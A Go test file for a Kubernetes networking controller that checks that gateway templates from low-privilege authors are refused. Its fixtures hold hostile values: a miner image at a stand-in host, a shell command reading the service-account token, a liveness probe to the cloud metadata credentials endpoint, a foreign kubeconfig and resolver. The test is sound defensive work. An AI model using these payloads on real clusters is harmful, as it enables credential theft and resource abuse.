package controller_test

import (
	"context"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	policyv1 "k8s.io/api/policy/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	netv1alpha1 "github.com/skein-net/skein/control/api/networking/v1alpha1"
	"github.com/skein-net/skein/control/controller"
	"github.com/skein-net/skein/internal/apitest"
)

// serverTemplateVariant creates WgGatewayServerTemplate name in ns: ns's wireguard-server
// (installTemplates) with edit applied to its spec.template.
func serverTemplateVariant(t *testing.T, c client.Client, ns, name string, edit func(tmpl map[string]any)) {
	t.Helper()
	ctx := context.Background()
	base := &netv1alpha1.WgGatewayServerTemplate{}
	apitest.Must(t, c.Get(ctx, client.ObjectKey{Namespace: ns, Name: "wireguard-server"}, base))
	var tree map[string]any
	apitest.Must(t, json.Unmarshal(base.Spec.Template.Raw, &tree))
	edit(tree)
	tmpl := &netv1alpha1.WgGatewayServerTemplate{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns}}
	raw, err := json.Marshal(tree)
	apitest.Must(t, err)
	tmpl.Spec.Template.Raw = raw
	apitest.Must(t, c.Create(ctx, tmpl))
}

// gatewayContainer is the gateway container of a template's spec.template.
func gatewayContainer(tmpl map[string]any) map[string]any {
	return dig(tmpl, "spec", "deployment", "template", "spec")["containers"].([]any)[0].(map[string]any)
}

// TestTemplateAuthorCannotBorrowTheController: someone who may write gateway templates and
// GatewayServers in a namespace, but not pods, Services or RoleBindings, gets from
// skein-controller only a gateway: each template below asks for what its author could not
// create alone (another image or command, a Service of another shape, hundreds of replicas, a
// system priority, every toleration, a node's worth of CPU and memory, a disruption budget
// over other pods), or runs the author's code or requests as the gateway (a volume over its
// program, an exec hook, a probe of another host, the author's resolver). Each is refused as a whole, with a condition naming the fields, and
// nothing of it is applied; the default template still renders.
func TestTemplateAuthorCannotBorrowTheController(t *testing.T) {
	env := apitest.Start(t)
	c := env.Client
	ns := env.Namespace(t, "author")
	ctx := context.Background()
	installTemplates(t, c, ns)
	pod := func(m map[string]any) map[string]any { return dig(m, "spec", "deployment", "template", "spec") }
	service := func(m map[string]any) map[string]any { return dig(m, "spec", "service") }
	attacks := []struct {
		name string
		edit func(tmpl map[string]any)
		want string // in the condition's message
	}{
		{"image", func(m map[string]any) { gatewayContainer(m)["image"] = "evil.example/miner:1" }, "image evil.example/miner:1"},
		{"command", func(m map[string]any) {
			gatewayContainer(m)["command"] = []any{"/bin/sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"}
		}, "containers[0].command"},
		{"kubeconfig", func(m map[string]any) {
			c := gatewayContainer(m)
			c["args"] = append(c["args"].([]any), "--kubeconfig=/etc/evil/kubeconfig")
		}, `"--kubeconfig=/etc/evil/kubeconfig" (not a gateway flag`},
		{"sidecar", func(m map[string]any) {
			p := pod(m)
			p["containers"] = append(p["containers"].([]any), map[string]any{"name": "miner", "image": "evil.example/miner:1"})
		}, "containers[1] (a container other than gateway)"},
		{"service-type", func(m map[string]any) { service(m)["type"] = "LoadBalancer" }, "spec.service.type LoadBalancer"},
		{"external-ips", func(m map[string]any) { service(m)["externalIPs"] = []any{"8.8.8.8", "10.96.0.1"} }, "spec.service.externalIPs"},
		{"service-selector", func(m map[string]any) { service(m)["selector"] = map[string]any{"app": "database"} }, "spec.service.selector"},
		{"service-ports", func(m map[string]any) {
			service(m)["ports"] = append(service(m)["ports"].([]any), map[string]any{"name": "dns", "port": 53, "protocol": "UDP"})
		}, "spec.service.ports[1:]"},
		{"annotations", func(m map[string]any) {
			m["metadata"].(map[string]any)["annotations"] = map[string]any{"metallb.universe.tf/loadBalancerIPs": "203.0.113.7"}
		}, "metadata.annotations metallb.universe.tf/loadBalancerIPs"},
		{"pod-annotations", func(m map[string]any) {
			dig(m, "spec", "deployment", "template", "metadata")["annotations"] = map[string]any{"k8s.v1.cni.cncf.io/networks": "kube-system/host-macvlan"}
		}, "template.metadata.annotations k8s.v1.cni.cncf.io/networks"},
		{"replicas", func(m map[string]any) { dig(m, "spec", "deployment")["replicas"] = 200 }, "spec.deployment.replicas 200"},
		{"priority", func(m map[string]any) { pod(m)["priorityClassName"] = "system-node-critical" }, "priorityClassName system-node-critical"},
		{"tolerations", func(m map[string]any) { pod(m)["tolerations"] = []any{map[string]any{"operator": "Exists"}} }, "tolerations[0]"},
		{"resources", func(m map[string]any) {
			gatewayContainer(m)["resources"] = map[string]any{"requests": map[string]any{"cpu": "32", "memory": "64Gi"}}
		}, "resources.requests.cpu 32"},
		// Code of the author's run by the kubelet in the gateway's container, or requests it
		// makes for them, or names the gateway resolves their way.
		{"entrypoint-mount", func(m map[string]any) {
			pod(m)["volumes"] = []any{map[string]any{"name": "mine", "configMap": map[string]any{"name": "authors-binary", "defaultMode": 0o755}}}
			gatewayContainer(m)["volumeMounts"] = []any{map[string]any{"name": "mine", "mountPath": "/usr/local/bin/skein-gateway", "subPath": "skein-gateway"}}
		}, "volumeMounts[0].mountPath /usr/local/bin/skein-gateway"},
		{"lifecycle-exec", func(m map[string]any) {
			// The kubeconfig needs no ConfigMap: an allowed pod annotation written to a file by
			// a downwardAPI volume, whose user's tokenFile is the pod's token.
			dig(m, "spec", "deployment", "template", "metadata")["annotations"] = map[string]any{"prometheus.io/kubeconfig": "server: https://203.0.113.66"}
			pod(m)["volumes"] = []any{map[string]any{"name": "kc", "downwardAPI": map[string]any{"items": []any{
				map[string]any{"path": "kubeconfig", "fieldRef": map[string]any{"fieldPath": "metadata.annotations['prometheus.io/kubeconfig']"}}}}}}
			gc := gatewayContainer(m)
			gc["volumeMounts"] = []any{map[string]any{"name": "kc", "mountPath": "/tmp/kc"}}
			gc["lifecycle"] = map[string]any{"postStart": map[string]any{"exec": map[string]any{
				"command": []any{"/usr/local/bin/skein-gateway", "--mode=client", "--kubeconfig=/tmp/kc/kubeconfig"}}}}
		}, "lifecycle.postStart.exec"},
		{"probe-host", func(m map[string]any) {
			gatewayContainer(m)["livenessProbe"] = map[string]any{"httpGet": map[string]any{"host": "169.254.169.254", "port": 80,
				"path": "/latest/meta-data/iam/security-credentials/"}, "periodSeconds": 1}
		}, "livenessProbe.httpGet.host 169.254.169.254"},
		{"dns", func(m map[string]any) {
			pod(m)["dnsPolicy"] = "None"
			pod(m)["dnsConfig"] = map[string]any{"nameservers": []any{"203.0.113.53"}}
			pod(m)["hostAliases"] = []any{map[string]any{"ip": "203.0.113.9", "hostnames": []any{"peer.example.com"}}}
		}, "dnsPolicy None"},
		{"pdb", func(m map[string]any) {
			// Two replicas make a PodDisruptionBudget, which took the template's selector.
			dig(m, "spec", "deployment")["replicas"] = 2
			dig(m, "spec", "deployment")["selector"] = map[string]any{"matchLabels": map[string]any{"app": "database"}}
			dig(m, "spec", "deployment", "template", "metadata")["labels"].(map[string]any)["app"] = "database"
		}, "spec.deployment.selector"},
	}
	for _, a := range attacks {
		serverTemplateVariant(t, c, ns, a.name, a.edit)
	}
	// Valid: two replicas (a PodDisruptionBudget over the gateway's own pods); the chart's
	// --watch-pods in a template of an install that does not watch Pods.
	serverTemplateVariant(t, c, ns, "ha", func(m map[string]any) { dig(m, "spec", "deployment")["replicas"] = 2 })
	serverTemplateVariant(t, c, ns, "watcher", func(m map[string]any) {
		c := gatewayContainer(m)
		c["args"] = append(c["args"].([]any), "--watch-pods")
	})
	serverTemplateVariant(t, c, ns, "later", func(map[string]any) {})
	stop := startGateways(t, env)
	defer stop()

	server := func(name, tmpl string) *netv1alpha1.GatewayServer {
		gs := serverGateway(ns, name)
		gs.Spec.ServerTemplateRef.Name = tmpl
		apitest.Must(t, c.Create(ctx, gs))
		return gs
	}
	for _, a := range attacks {
		server(a.name, a.name)
	}
	def := server("default", "wireguard-server")
	later := server("later", "later")
	ha := server("ha", "ha")
	watcher := server("watcher", "watcher")

	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			gs := &netv1alpha1.GatewayServer{}
			key := client.ObjectKey{Namespace: ns, Name: a.name}
			var cond *metav1.Condition
			apitest.Eventually(t, "refused", 30*time.Second, func() bool {
				c.Get(ctx, key, gs)
				cond = meta.FindStatusCondition(gs.Status.Conditions, netv1alpha1.ConditionReady)
				return cond != nil && cond.Status == metav1.ConditionFalse && cond.Reason == "ForbiddenTemplate"
			})
			if !strings.Contains(cond.Message, a.want) {
				t.Errorf("the condition says %q, want it to name %q", cond.Message, a.want)
			}
			for _, obj := range []client.Object{&appsv1.Deployment{}, &corev1.Service{}, &policyv1.PodDisruptionBudget{}} {
				if err := c.Get(ctx, key, obj); !apierrors.IsNotFound(err) {
					t.Errorf("%T applied from a refused template: %v", obj, err)
				}
			}
		})
	}

	// The default template renders: its Service is the spec's (ClusterIP, port 51820) over the
	// gateway's active pod.
	dep, svc := &appsv1.Deployment{}, &corev1.Service{}
	apitest.Eventually(t, "the default template deployed", 30*time.Second, func() bool {
		return c.Get(ctx, client.ObjectKeyFromObject(def), dep) == nil && c.Get(ctx, client.ObjectKeyFromObject(def), svc) == nil
	})
	if img := dep.Spec.Template.Spec.Containers[0].Image; controller.ImageRepository(img) != controller.DefaultGatewayImageRepository {
		t.Errorf("default gateway image %s", img)
	}
	if svc.Spec.Type != corev1.ServiceTypeClusterIP || len(svc.Spec.Ports) != 1 || svc.Spec.Ports[0].Port != netv1alpha1.DefaultPort ||
		len(svc.Spec.ExternalIPs) > 0 || len(svc.Spec.Selector) != 2 || svc.Spec.Selector[controller.GatewayPodLabel] != "default" {
		t.Errorf("default service %+v", svc.Spec)
	}

	// Two replicas: a disruption budget over the gateway's own pods, and only those.
	pdb := &policyv1.PodDisruptionBudget{}
	apitest.Eventually(t, "the ha gateway's disruption budget", 30*time.Second, func() bool {
		return c.Get(ctx, client.ObjectKeyFromObject(ha), pdb) == nil
	})
	if s := pdb.Spec.Selector; s == nil || len(s.MatchExpressions) > 0 || len(s.MatchLabels) != 1 || s.MatchLabels[controller.GatewayPodLabel] != "ha" {
		t.Errorf("the disruption budget selects %v, want the gateway's own pods", pdb.Spec.Selector)
	}

	// A template's --watch-pods: the gateway deploys without it, and nothing binds the Pods role.
	apitest.Eventually(t, "the watcher deployed", 30*time.Second, func() bool {
		return c.Get(ctx, client.ObjectKeyFromObject(watcher), dep) == nil
	})
	if args := dep.Spec.Template.Spec.Containers[0].Args; slices.ContainsFunc(args, func(a string) bool { return strings.Contains(a, "watch-pods") }) {
		t.Errorf("the template's --watch-pods reached the gateway: %q", args)
	}
	time.Sleep(time.Second)
	if err := c.Get(ctx, client.ObjectKey{Name: controller.GatewayClusterBindingName(ns, "watcher") + "-pods"}, &rbacv1.ClusterRoleBinding{}); !apierrors.IsNotFound(err) {
		t.Errorf("a template's --watch-pods bound %s: %v", controller.GatewayPodsClusterRole, err)
	}

	// A template that turns bad later (or was rendered by a controller without the policy):
	// what it rendered before goes, and comes back once the template is fixed.
	apitest.Eventually(t, "the later gateway deployed", 30*time.Second, func() bool {
		return c.Get(ctx, client.ObjectKeyFromObject(later), svc) == nil
	})
	editTemplate := func(edit func(map[string]any)) {
		tmpl := &netv1alpha1.WgGatewayServerTemplate{}
		apitest.Must(t, c.Get(ctx, client.ObjectKey{Namespace: ns, Name: "later"}, tmpl))
		var tree map[string]any
		apitest.Must(t, json.Unmarshal(tmpl.Spec.Template.Raw, &tree))
		edit(tree)
		raw, err := json.Marshal(tree)
		apitest.Must(t, err)
		tmpl.Spec.Template.Raw = raw
		apitest.Must(t, c.Update(ctx, tmpl))
	}
	editTemplate(func(m map[string]any) { service(m)["externalIPs"] = []any{"8.8.8.8"} })
	apitest.Eventually(t, "the later gateway's Deployment and Service removed", 30*time.Second, func() bool {
		return apierrors.IsNotFound(c.Get(ctx, client.ObjectKeyFromObject(later), &corev1.Service{})) &&
			apierrors.IsNotFound(c.Get(ctx, client.ObjectKeyFromObject(later), &appsv1.Deployment{}))
	})
	editTemplate(func(m map[string]any) { delete(service(m), "externalIPs") })
	apitest.Eventually(t, "the later gateway back", 30*time.Second, func() bool {
		return c.Get(ctx, client.ObjectKeyFromObject(later), svc) == nil && len(svc.Spec.ExternalIPs) == 0
	})
}

// TestGatewayClusterBindingsDoNotCollide: gateways a-b/c and a/b-c, whose bindings had one
// name, each get their own; a binding of the old name that is the gateway's own is removed on
// upgrade, another's is left alone.
func TestGatewayClusterBindingsDoNotCollide(t *testing.T) {
	env := apitest.Start(t)
	c := env.Client
	ctx := context.Background()
	nsA := env.Namespace(t, "crb")
	nsAB := nsA + "-b"
	apitest.Must(t, c.Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: nsAB}}))
	t.Cleanup(func() { c.Delete(context.Background(), &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: nsAB}}) })
	installTemplates(t, c, nsA)
	installTemplates(t, c, nsAB)
	// What an older controller left for gateway nsAB/c: the binding under the old name.
	legacy := &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "skein-gateway-" + nsAB + "-c", Labels: map[string]string{controller.ManagedByLabel: controller.FieldOwner}},
		Subjects: []rbacv1.Subject{{Kind: "ServiceAccount", Name: "c", Namespace: nsAB}},
		RoleRef:  rbacv1.RoleRef{APIGroup: "rbac.authorization.k8s.io", Kind: "ClusterRole", Name: controller.GatewayNodesClusterRole}}
	apitest.Must(t, c.Create(ctx, legacy))
	t.Cleanup(func() { c.Delete(context.Background(), legacy) })
	stop := startGateways(t, env)
	defer stop()

	for _, gw := range []struct{ ns, name string }{{nsA, "b-c"}, {nsAB, "c"}} {
		apitest.Must(t, c.Create(ctx, serverGateway(gw.ns, gw.name)))
	}
	for _, gw := range []struct{ ns, name string }{{nsA, "b-c"}, {nsAB, "c"}} {
		crb := &rbacv1.ClusterRoleBinding{}
		apitest.Eventually(t, gw.ns+"/"+gw.name+": its own binding", 30*time.Second, func() bool {
			return c.Get(ctx, client.ObjectKey{Name: controller.GatewayClusterBindingName(gw.ns, gw.name)}, crb) == nil
		})
		if len(crb.Subjects) != 1 || crb.Subjects[0].Namespace != gw.ns || crb.Subjects[0].Name != gw.name {
			t.Errorf("%s/%s: binding %s binds %v", gw.ns, gw.name, crb.Name, crb.Subjects)
		}
		gs := &netv1alpha1.GatewayServer{}
		apitest.Eventually(t, gw.ns+"/"+gw.name+": deployed", 30*time.Second, func() bool {
			c.Get(ctx, client.ObjectKey{Namespace: gw.ns, Name: gw.name}, gs)
			cond := meta.FindStatusCondition(gs.Status.Conditions, netv1alpha1.ConditionReady)
			return cond != nil && cond.Reason == "Deployed"
		})
	}
	apitest.Eventually(t, "the old name removed", 30*time.Second, func() bool {
		return apierrors.IsNotFound(c.Get(ctx, client.ObjectKeyFromObject(legacy), &rbacv1.ClusterRoleBinding{}))
	})
}
